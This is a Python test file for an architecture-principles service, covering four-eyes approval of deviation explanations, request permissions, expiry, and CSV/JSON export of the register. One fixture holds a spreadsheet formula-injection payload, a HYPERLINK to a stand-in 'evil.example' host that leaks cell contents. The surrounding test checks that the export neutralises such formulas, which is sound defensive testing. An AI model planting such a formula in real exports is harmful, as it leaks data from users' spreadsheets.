"""Explanations ("leg uit"): who may ask, four eyes on approval, when they count, and the register."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from sqlalchemy import update

from services.chassis.exports import csv_cell
from services.principles.explanations.models import Explanation
from tests.conftest import Suite
from tests.principles.helpers import (
    CLOUD_RULE,
    architect,
    evaluate,
    local,
    make_chain,
    make_initiative,
    make_principle,
    make_programme,
    of_principle,
)
from tests.support import Tokens


def utc_today() -> dt.date:
    return dt.datetime.now(dt.UTC).date()


NEXT_YEAR = (utc_today() + dt.timedelta(days=365)).isoformat()


def explanation_body(principle: dict[str, Any], subject: dict[str, Any], **overrides: Any) -> dict[str, Any]:
    return {
        "principle": {"href": principle["href"]},
        "subject": {"href": subject["href"]},
        "reason": "The pilot needs GPUs our own platform does not have yet; pseudonymised data only.",
        "review_by": NEXT_YEAR,
        **overrides,
    }


async def latest(client: Any, principle: dict[str, Any], subject: dict[str, Any]) -> dict[str, Any]:
    params = {"principle": principle["href"], "subject": subject["href"], "latest": "true"}
    [item] = (await client.get("/v1/assessments", params=params)).json()["items"]
    return dict(item)


async def test_confidential_data_in_public_cloud_is_explained_only_after_a_second_architect_approves(
    suite: Suite, tokens: Tokens
) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(
        suite, tokens, chain, hosting="public_cloud", data_classification="confidential", status="active"
    )
    first = architect(tokens, sub="arch-requester", clearance="confidential")
    second = architect(tokens, sub="arch-approver", clearance="confidential")
    async with suite.client("principles", first) as requester:
        cloud = await make_principle(requester, rule=CLOUD_RULE)
        judged = await evaluate(requester, initiative["href"])
        assert of_principle(judged["assessments"], cloud)[0]["outcome"] == "deviates"

        asked = await requester.post("/v1/explanations", json=explanation_body(cloud, initiative))
        assert asked.status_code == 201, asked.text
        explanation = asked.json()
        assert asked.headers["location"] == explanation["href"]
        assert explanation["status"] == "requested" and explanation["valid"] is False
        assert explanation["requested_by"] == "arch-requester" and explanation["principle_revision"] == 1
        assert explanation["data_classification"] == "confidential"
        # Asked is not approved: the initiative still deviates.
        judged = await evaluate(requester, initiative["href"])
        assert of_principle(judged["assessments"], cloud)[0]["outcome"] == "deviates"

        own = await requester.post(f"{local(explanation['href'])}/approve", json={})
        assert own.status_code == 403
        assert "four eyes" in own.json()["detail"]
        assert (await latest(requester, cloud, initiative))["outcome"] == "deviates"

    async with suite.client("principles", second) as approver:
        approved = await approver.post(
            f"{local(explanation['href'])}/approve", json={"note": "Until the end of next year."}
        )
        assert approved.status_code == 200, approved.text
        body = approved.json()
        assert body["status"] == "approved" and body["valid"] is True
        assert body["approved_by"] == "arch-approver" and body["approved_at"] is not None
        assert body["decision_note"] == "Until the end of next year."
        assert approved.headers["etag"] == f'"{body["version"]}"'

        # Approving re-evaluated the subject for this principle at once.
        now = await latest(approver, cloud, initiative)
        assert now["outcome"] == "explained" and now["explanation"] == {"href": explanation["href"]}
        assert now["assessed_by"] == "arch-approver"
        trigger = (await approver.get(local(now["evaluation"]["href"]))).json()["trigger"]
        assert trigger == "explanation"

        again = await approver.post(f"{local(explanation['href'])}/approve", json={})
        assert again.status_code == 409

        # And stays explained when evaluated again, while it is valid.
        judged = await evaluate(approver, initiative["href"])
        assert of_principle(judged["assessments"], cloud)[0]["outcome"] == "explained"


async def test_who_may_ask(suite: Suite, tokens: Tokens) -> None:
    owner = {"subject": "u-chain-owner-1", "name": "Owner (test)", "unit": "Eenheid Rotterdam"}
    chain = await make_chain(suite, tokens, owner=owner)
    deviating = {"hosting": "public_cloud", "data_classification": "confidential"}
    initiatives = [await make_initiative(suite, tokens, chain, **deviating) for _ in range(3)]
    initiative = initiatives[0]
    programme = await make_programme(suite, tokens, owner={**owner, "subject": "u-programme-owner"})
    async with suite.client("principles", architect(tokens)) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
        rolling = await make_principle(client, applies_to=["programme"], category="finance_control")
        # A principle without a rule: an architect records the deviation before anyone explains it.
        manual = {"principle": {"href": rolling["href"]}, "subject": {"href": programme["href"]}}
        recorded = await client.post("/v1/assessments", json={**manual, "outcome": "deviates", "note": "No gates."})
        assert recorded.status_code == 201, recorded.text
    allowed = [
        tokens("portfolio_manager", clearance="secret"),
        tokens("chain_owner", sub="u-chain-owner-1", clearance="confidential"),  # owns the initiative's chain
        architect(tokens),
    ]
    for headers, subject in zip(allowed, initiatives, strict=True):
        async with suite.client("principles", headers) as client:
            response = await client.post("/v1/explanations", json=explanation_body(cloud, subject))
            assert response.status_code == 201, response.text
    # Ownership acts through the chain_owner role: the owner's sub with only the reader role is refused.
    async with suite.client("principles", tokens("reader", sub="u-programme-owner")) as client:
        as_reader = await client.post("/v1/explanations", json=explanation_body(rolling, programme))
        assert as_reader.status_code == 403, as_reader.text
    async with suite.client("principles", tokens("chain_owner", sub="u-programme-owner")) as client:
        own_programme = await client.post("/v1/explanations", json=explanation_body(rolling, programme))
        assert own_programme.status_code == 201, own_programme.text  # owner.subject of the subject itself
    refused = (
        tokens("chain_owner", sub="u-someone-else", clearance="confidential"),
        tokens("reader", sub="u-chain-owner-1", clearance="confidential"),  # the owner, acting as a reader
        tokens("contributor", sub="u-chain-owner-1", clearance="confidential"),
        tokens("reader", clearance="confidential"),
        tokens("contributor", clearance="confidential"),
    )
    for headers in refused:
        async with suite.client("principles", headers) as client:
            response = await client.post("/v1/explanations", json=explanation_body(cloud, initiative))
            assert response.status_code == 403, response.text


async def test_requests_are_checked(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="confidential")
    complying = await make_initiative(suite, tokens, chain)
    async with suite.client("principles", architect(tokens)) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
        too_far = (utc_today() + dt.timedelta(days=731)).isoformat()
        cases: list[tuple[dict[str, Any], list[str] | None]] = [
            ({"review_by": utc_today().isoformat()}, ["body", "review_by"]),
            # At most two years (the configured maximum validity) ahead.
            ({"review_by": too_far}, ["body", "review_by"]),
            ({"subject": {"href": chain["href"]}}, ["body", "subject"]),  # the principle is not for chains
            ({"subject": {"href": "/portfolio/v1/initiatives/019a9999-0000-7000-8000-000000000001"}}, None),
            ({"principle": {"href": "/principles/v1/principles/019a9999-0000-7000-8000-000000000001"}}, None),
            ({"subject": {"href": "/portfolio/v1/initiatives"}}, ["body", "subject", "href"]),
        ]
        for overrides, where in cases:
            response = await client.post("/v1/explanations", json={**explanation_body(cloud, initiative), **overrides})
            assert response.status_code == 422, (overrides, response.text)
            if where:
                assert response.json()["errors"][0]["loc"] == where
        retired = await make_principle(client, rule=CLOUD_RULE, status="retired")
        gone = await client.post("/v1/explanations", json=explanation_body(retired, initiative))
        assert gone.status_code == 409
        # Nothing to explain for a subject that complies.
        nothing = await client.post("/v1/explanations", json=explanation_body(cloud, complying))
        assert nothing.status_code == 409 and nothing.json()["outcome"] == "complies", nothing.text
        # Exactly two years ahead is the furthest it may go.
        last_day = (utc_today() + dt.timedelta(days=730)).isoformat()
        first = await client.post("/v1/explanations", json=explanation_body(cloud, initiative, review_by=last_day))
        assert first.status_code == 201, first.text
        # One standing request (or valid explanation) per principle and subject: the second names the first.
        twice = await client.post("/v1/explanations", json=explanation_body(cloud, initiative))
        assert twice.status_code == 409 and twice.json()["existing"] == first.json()["href"]
        listed = await client.get("/v1/explanations", params={"subject": initiative["href"]})
        assert [e["href"] for e in listed.json()["items"]] == [first.json()["href"]]


async def test_rejecting_needs_four_eyes_and_a_note(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="secret")
    async with suite.client("principles", architect(tokens, sub="arch-1")) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
        explanation = (await client.post("/v1/explanations", json=explanation_body(cloud, initiative))).json()
        path = local(explanation["href"])
    async with suite.client("principles", tokens("portfolio_manager", clearance="secret")) as client:
        assert (await client.post(f"{path}/reject", json={"note": "No."})).status_code == 403
    async with suite.client("principles", architect(tokens, sub="arch-low", clearance="internal")) as client:
        assert (await client.post(f"{path}/reject", json={"note": "No."})).status_code == 404  # need to know
    async with suite.client("principles", architect(tokens, sub="arch-2")) as client:
        assert (await client.post(f"{path}/reject", json={})).status_code == 422
        stale = await client.post(f"{path}/reject", json={"note": "No."}, headers={"If-Match": '"9"'})
        assert stale.status_code == 412
        rejected = await client.post(f"{path}/reject", json={"note": "Use the generic document store."})
        assert rejected.status_code == 200
        assert rejected.json()["status"] == "rejected" and rejected.json()["rejected_by"] == "arch-2"
        assert (await client.post(f"{path}/approve", json={})).status_code == 409
        judged = await evaluate(client, initiative["href"])
        assert of_principle(judged["assessments"], cloud)[0]["outcome"] == "deviates"


async def test_an_explanation_past_review_by_no_longer_counts(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="secret")
    async with suite.client("principles", architect(tokens, sub="arch-1")) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
        explanation = (await client.post("/v1/explanations", json=explanation_body(cloud, initiative))).json()
    async with suite.client("principles", architect(tokens, sub="arch-2")) as client:
        await client.post(f"{local(explanation['href'])}/approve", json={})
        assert (await latest(client, cloud, initiative))["outcome"] == "explained"

        # Time passes: review_by was yesterday.
        async with suite.apps["principles"].state.db.session(write=True) as session:
            await session.execute(
                update(Explanation)
                .where(Explanation.id == explanation["id"])
                .values(review_by=utc_today() - dt.timedelta(days=1))
            )
        shown = (await client.get(local(explanation["href"]))).json()
        assert shown["status"] == "approved" and shown["valid"] is False
        judged = await evaluate(client, initiative["href"])
        assert of_principle(judged["assessments"], cloud)[0]["outcome"] == "deviates"
        expiring = await client.get("/v1/explanations", params={"review_by_before": utc_today().isoformat()})
        assert explanation["id"] in {e["id"] for e in expiring.json()["items"]}


async def test_the_register_exports_as_csv_and_json(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    public = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="confidential")
    hidden = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="secret")
    async with suite.client("principles", architect(tokens, sub="arch-1")) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
        shown = (await client.post("/v1/explanations", json=explanation_body(cloud, public))).json()
        secret = (await client.post("/v1/explanations", json=explanation_body(cloud, hidden))).json()
    async with suite.client("principles", architect(tokens, sub="arch-2")) as client:
        await client.post(f"{local(shown['href'])}/approve", json={"note": "Fine, with conditions."})

    async with suite.client("principles", tokens("reader", clearance="confidential")) as client:
        as_json = await client.get("/v1/explanations/register", headers={"Accept": "application/json"})
        assert as_json.status_code == 200 and as_json.headers["content-type"] == "application/json"
        register = as_json.json()
        rows = {row["href"]: row for row in register["items"]}
        assert register["count"] == len(register["items"])
        assert shown["href"] in rows and secret["href"] not in rows  # need to know
        row = rows[shown["href"]]
        assert row["principle_code"] == cloud["code"] and row["principle_title"] == cloud["title"]
        assert row["subject"] == public["href"] and row["status"] == "approved" and row["valid"] is True
        assert row["requested_by"] == "arch-1" and row["approved_by"] == "arch-2"
        assert row["decision_note"] == "Fine, with conditions." and row["review_by"] == NEXT_YEAR

        default = await client.get("/v1/explanations/register")
        assert default.headers["content-type"] == "application/json"

        as_csv = await client.get("/v1/explanations/register", headers={"Accept": "text/csv"})
        assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
        assert "attachment" in as_csv.headers["content-disposition"]
        parsed = list(csv.DictReader(io.StringIO(as_csv.text)))
        assert [r["href"] for r in parsed] == [r["href"] for r in register["items"]]
        csv_row = next(r for r in parsed if r["href"] == shown["href"])
        assert csv_row["valid"] == "True" and csv_row["approved_by"] == "arch-2" and csv_row["review_by"] == NEXT_YEAR
        assert csv_row["rejected_by"] == ""

        preferred = await client.get(
            "/v1/explanations/register", headers={"Accept": "application/json;q=0.5, text/csv;q=0.9"}
        )
        assert preferred.headers["content-type"].startswith("text/csv")
        for accept in ("application/xml", "text/html", "application/json;q=0"):
            refused = await client.get("/v1/explanations/register", headers={"Accept": accept})
            assert refused.status_code == 406, accept
            assert refused.headers["content-type"] == "application/problem+json"
            assert refused.json()["type"] == "/problems/not-acceptable"


FORMULAS = {
    "reason": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "decision_note": "+SUM(1,2)",
}


async def test_the_csv_register_does_not_hand_spreadsheets_formulas(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="secret")
    async with suite.client("principles", architect(tokens, sub="@arch-formula")) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE, title="-1+1 cloud first")
        body = explanation_body(cloud, initiative, reason=FORMULAS["reason"])
        asked = (await client.post("/v1/explanations", json=body)).json()
    async with suite.client("principles", architect(tokens, sub="arch-plain")) as client:
        approved = await client.post(f"{local(asked['href'])}/approve", json={"note": FORMULAS["decision_note"]})
        assert approved.status_code == 200, approved.text

        as_csv = await client.get("/v1/explanations/register", headers={"Accept": "text/csv"})
        row = next(r for r in csv.DictReader(io.StringIO(as_csv.text)) if r["href"] == asked["href"])
        assert row["reason"] == "'" + FORMULAS["reason"]
        assert row["decision_note"] == "'" + FORMULAS["decision_note"]
        assert row["requested_by"] == "'@arch-formula" and row["principle_title"] == "'-1+1 cloud first"
        assert row["approved_by"] == "arch-plain" and row["principle_revision"] == "1"  # the rest as it is
        assert not [cell for r in csv.reader(io.StringIO(as_csv.text)) for cell in r if cell and cell[0] in "=+-@\t\r"]

        as_json = (await client.get("/v1/explanations/register")).json()
        item = next(i for i in as_json["items"] if i["href"] == asked["href"])
        assert item["reason"] == FORMULAS["reason"] and item["requested_by"] == "@arch-formula"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"x{start}1") == f"x{start}1"


async def test_a_requester_may_withdraw_their_request(suite: Suite, tokens: Tokens) -> None:
    chain = await make_chain(suite, tokens)
    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="confidential")
    async with suite.client("principles", architect(tokens)) as client:
        cloud = await make_principle(client, rule=CLOUD_RULE)
    manager = tokens("portfolio_manager", sub="pm-1", clearance="secret")
    async with suite.client("principles", manager) as client:
        explanation = (await client.post("/v1/explanations", json=explanation_body(cloud, initiative))).json()
        withdrawn = await client.delete(local(explanation["href"]))
        assert withdrawn.status_code == 200 and withdrawn.json()["status"] == "archived"
    async with suite.client("principles", architect(tokens, sub="arch-2")) as client:
        assert (await client.post(f"{local(explanation['href'])}/approve", json={})).status_code == 409


async def test_the_register_filters_by_year_principle_status_and_chain(suite: Suite, tokens: Tokens) -> None:
    chain_a, chain_b = await make_chain(suite, tokens), await make_chain(suite, tokens)
    in_a = await make_initiative(suite, tokens, chain_a, hosting="public_cloud", data_classification="confidential")
    in_b = await make_initiative(suite, tokens, chain_b, hosting="public_cloud", data_classification="confidential")
    async with suite.client("principles", architect(tokens, sub="arch-1")) as client:
        one, two = await make_principle(client, rule=CLOUD_RULE), await make_principle(client, rule=CLOUD_RULE)
        asked = {}
        for key, principle, subject in (("1a", one, in_a), ("2b", two, in_b), ("1b", one, in_b)):
            response = await client.post("/v1/explanations", json=explanation_body(principle, subject))
            assert response.status_code == 201, response.text
            asked[key] = response.json()["href"]
    async with suite.client("principles", architect(tokens, sub="arch-2")) as client:
        approved = await client.post(f"{local(asked['1a'])}/approve", json={"note": "Fine."})
        assert approved.status_code == 200, approved.text
    mine = {href: key for key, href in asked.items()}
    year = utc_today().year

    async with suite.client("principles", tokens("reader", clearance="confidential")) as client:

        async def listed(params: list[tuple[str, str]], accept: str = "application/json") -> set[str]:
            answer = await client.get("/v1/explanations/register", params=tuple(params), headers={"Accept": accept})
            assert answer.status_code == 200, answer.text
            rows = answer.json()["items"] if accept == "application/json" else csv.DictReader(io.StringIO(answer.text))
            return {mine[row["href"]] for row in rows if row["href"] in mine}

        assert await listed([]) == {"1a", "2b", "1b"}
        assert await listed([("principle", one["href"])]) == {"1a", "1b"}
        assert await listed([("principle", one["id"]), ("principle", two["href"])]) == {"1a", "2b", "1b"}
        assert await listed([("status", "approved")]) == {"1a"}
        assert await listed([("status", "approved"), ("status", "requested")]) == {"1a", "2b", "1b"}
        assert await listed([("chain", chain_a["href"])]) == {"1a"}
        assert await listed([("chain", chain_b["id"])]) == {"2b", "1b"}
        assert await listed([("chain", chain_a["id"]), ("chain", chain_b["href"])]) == {"1a", "2b", "1b"}
        assert await listed([("year", str(year))]) == {"1a", "2b", "1b"}
        assert await listed([("year", str(year - 1))]) == set()
        assert await listed([("principle", one["href"]), ("chain", chain_b["href"]), ("year", str(year))]) == {"1b"}
        assert await listed([("chain", chain_b["href"]), ("status", "requested")], accept="text/csv") == {"2b", "1b"}
        filtered = await client.get("/v1/explanations/register", params=[("chain", chain_a["href"])])
        assert filtered.json()["coverage"]["counted"] == filtered.json()["count"] == 1  # over the filtered register
        assert filtered.headers["IV-Records-Counted"] == "1"

        for param, value in (
            ("chain", "/portfolio/v1/initiatives/x"),
            ("chain", "no such thing!"),
            ("principle", chain_a["href"]),
            ("status", "bogus"),
            ("year", "soon"),
        ):
            refused = await client.get("/v1/explanations/register", params={param: value})
            assert refused.status_code == 422, (param, value, refused.text)
            assert refused.headers["content-type"] == "application/problem+json"
            assert param in str(refused.json()["errors"][0]["loc"]), refused.json()

        # Which subjects belong to a chain is the owners' to say: without them, no answer (not a partial one).
        suite.transport.down.add("portfolio.test")
        try:
            down = await client.get("/v1/explanations/register", params=[("chain", chain_a["href"])])
        finally:
            suite.transport.down.discard("portfolio.test")
        assert down.status_code == 503 and down.headers["content-type"] == "application/problem+json"
